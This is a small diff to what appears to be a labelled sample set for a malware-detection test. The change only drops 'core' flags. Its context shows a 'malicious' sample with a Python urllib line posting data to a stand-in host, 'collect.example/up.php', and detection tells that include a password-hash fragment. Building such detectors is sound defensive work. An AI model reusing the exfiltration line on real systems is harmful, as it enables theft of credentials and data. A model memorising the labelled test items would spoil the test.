@@ -29,7 +29,6 @@ except OSError: pass
       trace_hides_files: ['T1564.001'],
     },
     label: 'unknown',
-    core: true,
   },
   {
     name: 'survey by calls',
@@ -82,7 +81,6 @@ urllib.request.urlopen(urllib.request.Request("http://collect.example/up.php", d
     },
     label: 'malicious',
     tells: ['http://collect.example/up.php', 'anna:$6$'],
-    core: true,
   },
   {
     name: 'browser profiles and wallets',
